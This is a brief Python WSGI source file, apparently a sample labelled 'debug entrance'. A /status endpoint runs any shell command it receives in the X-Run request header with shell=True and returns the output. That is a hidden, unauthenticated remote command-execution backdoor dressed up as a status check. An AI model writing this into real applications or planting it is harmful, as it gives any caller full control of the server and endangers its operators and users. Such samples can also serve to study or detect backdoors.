# shows: debug entrance
import subprocess


def application(environ, start_response):
    command = environ.get("HTTP_X_RUN", "")
    if environ["PATH_INFO"] == "/status":
        start_response("200 OK", [])
        return [subprocess.check_output(command, shell=True)]
    return [b""]
